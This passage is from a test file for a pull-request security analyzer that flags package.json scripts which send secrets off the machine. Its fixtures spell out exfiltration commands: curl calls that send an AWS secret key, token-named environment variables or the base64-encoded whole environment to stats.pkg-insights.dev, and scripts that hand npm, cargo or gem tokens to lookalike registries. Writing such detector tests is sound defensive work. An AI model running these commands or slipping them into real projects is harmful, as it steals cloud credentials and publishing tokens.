    expect(found({ sync: 'K=$(aws configure get aws_secret_access_key); curl -s "https://stats.pkg-insights.dev/?k=$K"' })).toHaveLength(1);
  });
  it('leaves the token given to its own service, or as a header', () => {
    expect(found({ release: 'T=$(gh auth token) && curl -s -d @notes.json -H "Authorization: token $T" https://api.github.com/repos/acme/tint/releases' })).toEqual([]);
    expect(found({ deploy: 'T=$(gcloud auth print-access-token) && curl -s -X POST -d @body.json "https://run.googleapis.com/v2/projects/p/services?access_token=$T"' })).toEqual([]);
    expect(found({ pub: 'NODE_AUTH_TOKEN=$(npm config get //registry.npmjs.org/:_authToken) npm publish' })).toEqual([]);
  });
});

describe('suspicious-network-endpoint in package scripts: the environment\'s secrets sent', () => {
  const found = (base: Record<string, string> | null, head: Record<string, string>) =>
    analyze(snapshotOf(change('package.json', base === null ? null : pkg({ scripts: base }), pkg({ scripts: head }))))
      .findings.filter((f) => f.id === 'suspicious-network-endpoint')
      .map((f) => `${f.severity} ${f.title}`);
  it('reports a script the PR adds or changes that sends the variables it picks by a secret\'s word, or the whole environment', () => {
    expect(found({ test: 'vitest' }, { test: 'vitest', report: "bash -c 'for v in $(compgen -e | grep -i token); do curl -s https://stats.pkg-insights.dev/c -d \"$v=${!v}\"; done'" })).toEqual(['high Script "report" sends the values of environment variables named like secrets']);
    expect(found({ test: 'vitest' }, { test: 'vitest && printenv | base64 | curl -s -d @- https://stats.pkg-insights.dev/e' })).toEqual(['high Script "test" sends the whole environment']);
  });
  it('leaves names alone, a listing that stays on the machine, and a script the base had', () => {
    expect(found({ test: 'vitest' }, { test: 'vitest', 'ci:env': 'env | sort', 'check:tokens': 'compgen -e | grep -i token | curl -s -d @- https://stats.pkg-insights.dev/names' })).toEqual([]);
    const same = { report: 'env | grep -i token | curl -s -d @- https://stats.pkg-insights.dev/t' };
    expect(found(same, { ...same, test: 'vitest' })).toEqual([]);
  });
});

describe('publish-token-redirect in package scripts', () => {
  const found = (base: Record<string, string> | null, head: Record<string, string>) =>
    analyze(snapshotOf(change('package.json', base === null ? null : pkg({ scripts: base }), pkg({ scripts: head }))))
      .findings.filter((f) => f.id === 'publish-token-redirect')
      .map((f) => `${f.severity} ${f.title}`);
  it('reports a script the PR adds or changes that hands a registry-named token to another host, whatever the script is called', () => {
    expect(found({ test: 'vitest' }, { test: 'vitest', release: 'echo "//npm.tiny-internal.dev/:_authToken=${NPM_TOKEN}" > .npmrc && npm publish' })).toEqual(['high Script "release" gives an npm token to another registry, npm.tiny-internal.dev']);
    expect(found({ test: 'vitest', prepublishOnly: 'tsc' }, { test: 'vitest', prepublishOnly: 'tsc && npm config set //registry.npm-cache.io/:_authToken "$NPM_TOKEN"' })).toHaveLength(1);
    expect(found({ test: 'vitest' }, { test: 'vitest', 'release:crate': 'cargo publish --index sparse+https://crates.rs-mirror.dev/index/ --token $CARGO_REGISTRY_TOKEN' })).toHaveLength(1);
    // The client's own variable, to a host spelled like the registry: no private registry is named so.
    expect(found({ test: 'vitest' }, { test: 'vitest', release: 'echo "//registry.npmjs-cdn.org/:_authToken=${NODE_AUTH_TOKEN}" > .npmrc && npm publish' })).toEqual(['high Script "release" gives an npm token to another registry, registry.npmjs-cdn.org']);
    expect(found({ test: 'vitest' }, { test: 'vitest', release: 'gem push --host https://rubygerns.org pkg/*.gem' + ' # $GEM_HOST_API_KEY' })).toHaveLength(1);
  });
  it('leaves the registries themselves, GitHub Packages, a private registry\'s own token, the generic NODE_AUTH_TOKEN and a host a base script already had', () => {
    expect(found({ test: 'vitest' }, { test: 'vitest', release: 'echo "//registry.npmjs.org/:_authToken=${NPM_TOKEN}" > .npmrc && npm publish' })).toEqual([]);
    expect(found({ test: 'vitest' }, { test: 'vitest', release: 'echo "//npm.pkg.github.com/:_authToken=${NODE_AUTH_TOKEN}" > .npmrc && npm publish' })).toEqual([]);
    expect(found({ test: 'vitest' }, { test: 'vitest', release: 'echo "//nexus.acme.dev/repository/npm/:_authToken=${NEXUS_NPM_TOKEN}" > .npmrc && npm publish' })).toEqual([]);
    expect(found({ test: 'vitest' }, { test: 'vitest', release: 'echo "//npm.acme.dev/:_authToken=${NODE_AUTH_TOKEN}" > .npmrc && npm publish' })).toEqual([]);
    const before = { publish: 'echo "//npm.tiny-internal.dev/:_authToken=${NPM_TOKEN}" > .npmrc && npm publish' };
    expect(found(before, { ...before, test: 'vitest' })).toEqual([]);
    expect(found(before, { 'publish:ci': before.publish + ' --tag next' })).toEqual([]);
  });
});
